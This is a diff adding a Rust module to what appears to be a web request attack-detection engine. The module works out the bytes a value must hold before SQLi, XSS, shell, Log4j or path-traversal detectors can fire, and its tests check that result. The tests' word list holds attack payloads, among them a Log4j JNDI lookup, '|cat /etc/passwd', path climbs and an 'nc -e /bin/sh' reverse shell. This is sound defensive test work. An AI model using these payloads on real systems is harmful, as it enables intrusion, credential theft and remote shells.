@@ -1,0 +1,292 @@
+//! Quiet per family: what a value must hold before a rule group can match
+//! it, decided once at load. A group is skipped for a value holding none of
+//! its automata's gate bytes and literals, none of its detectors' trigger
+//! bytes and literals and none of the bytes that make a step of its
+//! decoding chain change anything but ASCII case: then the chain's value is
+//! the raw value up to case, and the raw value's one byte set and one
+//! literal scan answer every question the group would ask.
+
+use super::compile::Group;
+use super::prefilter::ByteSet;
+use crate::detect::Detector;
+use crate::transform::Transform;
+
+/// What a value must hold for a group to run on it (`Group::skip`): one of
+/// `bytes`, a literal of a gate bit in `lits`, or (when `spaces`) two
+/// blanks in a row.
+#[derive(Debug, Clone)]
+pub(crate) struct Skip {
+    pub bytes: ByteSet,
+    pub lits: Vec<u64>,
+    /// A step of the chain folds runs of blanks.
+    pub spaces: bool,
+}
+
+/// Literals a detector needs (one of them, ASCII case ignored), besides
+/// its trigger bytes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum TriggerLits {
+    None,
+    /// Its anchors (`Detector::anchors`), under their bit of the scan.
+    Anchors,
+    /// Literals of their own, under a bit the compiler adds for them.
+    Own(&'static [&'static str]),
+}
+
+/// What a detector needs before it can report: a value holding none of
+/// `bytes` and none of `lits` makes it return nothing, whatever the case
+/// of its letters (no letter is a trigger byte). `None`: it may report on
+/// any value. Each set is read off the detector's own first checks
+/// (`quiet::tests` holds every detector to it on seeded values).
+pub(crate) fn detector_trigger(d: Detector) -> Option<(ByteSet, TriggerLits)> {
+    // `0x2e`, `0x2f`, `0x5c` spell a dot or a separator to the path reader.
+    const HEX: TriggerLits = TriggerLits::Own(&["0x"]);
+    Some(match d {
+        // SQL punctuation, else one of its keywords (`sqli::detect_with`).
+        Detector::Sqli => (set(b"'\"()=<>;#-/*|&@`", false), TriggerLits::Anchors),
+        // Its one-pass marks (`xss::detect`).
+        Detector::Xss => (set(b":=<(`.[", false), TriggerLits::None),
+        // A tag's `<`, or CSS `url(`.
+        Detector::HtmlInjection | Detector::HtmlLinks => (set(b"<(", false), TriggerLits::None),
+        // A separator that starts a command position.
+        Detector::Shell => (set(b";|&\n`${", false), TriggerLits::None),
+        Detector::ShellEscaped => (set(b"\\", false), TriggerLits::None),
+        // An option's `-`, an absolute path or URL's `/`, an address's `.`.
+        Detector::CommandLine => (set(b"-/.", false), TriggerLits::None),
+        Detector::Log4j => (set(b"$", false), TriggerLits::None),
+        // A separator, an escape or a non-ASCII look-alike (`worth_reading`).
+        Detector::Path => (set(b"/\\%", true), HEX),
+        // A climb needs dot, wildcard or junk units.
+        Detector::PathClimb => {
+            let mut s = set(b".?*%\x7f", true);
+            (0..0x20).for_each(|b| s.insert(b));
+            (s, HEX)
+        }
+        Detector::NamelessLineBreak => (set(b"\r\n", false), TriggerLits::None),
+        // Only a `_charset_` field, which the engine never skips.
+        Detector::FormCharset => (ByteSet::default(), TriggerLits::None),
+        Detector::UnknownMethod
+        | Detector::ContentType
+        | Detector::ContentRange
+        | Detector::AcceptEncoding
+        | Detector::AcceptCharset
+        | Detector::HttpVersion => return None,
+    })
+}
+
+/// Bytes that make `step` change a value in more than ASCII case, and
+/// whether it folds two blanks in a row; `None`: no short answer.
+fn step_changes(step: Transform) -> Option<(ByteSet, bool)> {
+    Some(match step {
+        Transform::Lowercase => (ByteSet::default(), false),
+        Transform::CompressWhitespace => (set(b"\t\n\r\x0b\x0c\xa0", false), true),
+        // Quotes, carets, escapes, `$IFS`/`$@`, tab, CR and `+` are
+        // rewritten; blanks folded; the rest only lowercased.
+        Transform::CmdLine => (set(b"'\"^\\$\t\r+", false), true),
+        Transform::Base64 => return None,
+        other => (set(other.trigger_bytes()?, false), false),
+    })
+}
+
+/// `bytes`, and every non-ASCII byte if `high`.
+fn set(bytes: &[u8], high: bool) -> ByteSet {
+    let mut s = ByteSet::default();
+    bytes.iter().for_each(|&b| s.insert(b));
+    if high {
+        (0x80..=0xff).for_each(|b| s.insert(b));
+    }
+    s
+}
+
+/// `Group::skip` for `g` after `chain`: `None` when something of the group
+/// may run on any value (an ungated automaton, a detector without a
+/// trigger set, a chain step without a short trigger list).
+/// `lit_bit(d, lits)` is the gate bit of a detector's trigger literals.
+pub(super) fn group_skip(
+    g: &Group,
+    chain: &[Transform],
+    gate_bits: usize,
+    lit_bit: impl Fn(Detector, TriggerLits) -> Option<usize>,
+) -> Option<Skip> {
+    let mut s = Skip {
+        bytes: ByteSet::default(),
+        lits: vec![0u64; gate_bits.div_ceil(64)],
+        spaces: false,
+    };
+    let bit = |lits: &mut Vec<u64>, b: usize| lits[b / 64] |= 1 << (b % 64);
+    for &step in chain {
+        let (bytes, spaces) = step_changes(step)?;
+        s.bytes.union(&bytes);
+        s.spaces |= spaces;
+    }
+    for set in &g.sets {
+        let gate = set.gate.as_ref()?;
+        s.bytes.union(&gate.bytes);
+        if let Some(b) = gate.lits {
+            bit(&mut s.lits, b);
+        }
+    }
+    if let Some((_, b)) = &g.phrases {
+        bit(&mut s.lits, *b);
+    }
+    for &(d, _) in &g.detectors {
+        let (bytes, lits) = detector_trigger(d)?;
+        s.bytes.union(&bytes);
+        if lits != TriggerLits::None {
+            bit(&mut s.lits, lit_bit(d, lits)?);
+        }
+    }
+    // Letters are never trigger bytes: a value's case does not matter.
+    debug_assert!(!(b'A'..=b'z').any(|b| b.is_ascii_alphabetic() && s.bytes.contains(b)));
+    Some(s)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::transform::apply_chain;
+
+    /// Seeded values over every byte outside `bytes`, with runs of the
+    /// letters, digits and blanks ordinary text and attacks share.
+    fn values_without(bytes: &ByteSet, seed: u64, n: usize) -> Vec<Vec<u8>> {
+        let allowed: Vec<u8> = (0..=255u8).filter(|&b| !bytes.contains(b)).collect();
+        let words: &[&[u8]] = &[
+            b"union",
+            b"SELECT",
+            b"or",
+            b"1",
+            b"script",
+            b"alert",
+            b"onerror",
+            b"javascript",
+            b"cat",
+            b"etc",
+            b"passwd",
+            b"jndi",
+            b"ldap",
+            b"0x2e",
+            b"0X2F",
+            b"id",
+            b"wget",
+            b"http",
+            b" ",
+            b"  ",
+            b"\t",
+            b"${jndi:ldap://x/a}",
+            b"<script>alert(1)</script>",
+            b"' or 1=1--",
+            b"\" or \"1\"=\"1",
+            b";id;",
+            b"|cat /etc/passwd",
+            b"$(id)",
+            b"`id`",
+            b"../../etc/passwd",
+            b"..\\..\\boot.ini",
+            b"javascript:alert(1)",
+            b"onerror=alert(1)",
+            b"<a href=//x.example/>",
+            b"background:url(//x/p.png)",
+            b"wget --quiet -O x",
+            b"nc -e /bin/sh 10.0.0.1",
+            b"\\x3bid",
+            b"%2e%2e%2f",
+            b"0x2e0x2e0x2f",
+            b"\r\nX: y",
+            b"1 union select 2",
+            b"order by 3",
+            b"alert`1`",
+            b"top.location='//x'",
+        ];
+        let mut x = seed;
+        (0..n)
+            .map(|_| {
+                let len = (crate::test_support::xorshift(&mut x) % 24) as usize;
+                let mut v = Vec::new();
+                for _ in 0..len {
+                    let r = crate::test_support::xorshift(&mut x);
+                    if r.is_multiple_of(3) {
+                        v.extend_from_slice(words[(r >> 8) as usize % words.len()]);
+                    } else {
+                        v.push(allowed[(r >> 8) as usize % allowed.len()]);
+                    }
+                }
+                v.retain(|b| !bytes.contains(*b));
+                v
+            })
+            .collect()
+    }
+
+    /// Every detector finds nothing in a value without its trigger bytes
+    /// and literals (in any case).
+    #[test]
+    fn detectors_find_nothing_without_their_triggers() {
+        use Detector::*;
+        let all = [
+            Sqli,
+            Xss,
+            HtmlInjection,
+            HtmlLinks,
+            Shell,
+            ShellEscaped,
+            CommandLine,
+            Log4j,
+            Path,
+            PathClimb,
+            NamelessLineBreak,
+        ];
+        for (k, d) in all.into_iter().enumerate() {
+            let (bytes, lits) = detector_trigger(d).unwrap();
+            let lits: &[&str] = match lits {
+                TriggerLits::None => &[],
+                TriggerLits::Anchors => d.anchors(),
+                TriggerLits::Own(l) => l,
+            };
+            let mut tried = 0;
+            for v in values_without(&bytes, 0x7e57_0000 + k as u64, 40_000) {
+                let lower = v.to_ascii_lowercase();
+                let holds = |l: &&str| lower.windows(l.len()).any(|w| w == l.as_bytes());
+                if lits.iter().any(holds) {
+                    continue;
+                }
+                tried += 1;
+                assert_eq!(
+                    d.detect(&v),
+                    None,
+                    "{d:?} fired without its triggers on {:?}",
+                    String::from_utf8_lossy(&v)
+                );
+            }
+            assert!(tried > 1_000, "{d:?}: {tried}");
+        }
+    }
+
+    /// A value holding none of a chain's changing bytes (nor two blanks in
+    /// a row when a step folds them) comes out of every chain of the
+    /// built-in rules equal to itself up to ASCII case.
+    #[test]
+    fn chains_change_only_case_without_their_changing_bytes() {
+        let rs = crate::RuleSet::builtin().unwrap();
+        for (k, chain) in rs.compiled.chains.iter().enumerate() {
+            let Some(steps) = chain
+                .iter()
+                .map(|&t| step_changes(t))
+                .collect::<Option<Vec<_>>>()
+            else {
+                continue;
+            };
+            let mut bytes = ByteSet::default();
+            steps.iter().for_each(|(b, _)| bytes.union(b));
+            let spaces = steps.iter().any(|s| s.1);
+            for v in values_without(&bytes, 0xc4a1_0000 + k as u64, 3_000) {
+                if spaces && v.windows(2).any(|w| w == b"  ") {
+                    continue;
+                }
+                let out = apply_chain(chain, &v);
+                assert!(
+                    out.eq_ignore_ascii_case(&v),
+                    "{chain:?} changed {v:?} to {out:?}"
+                );
+            }
+        }
+    }
+}
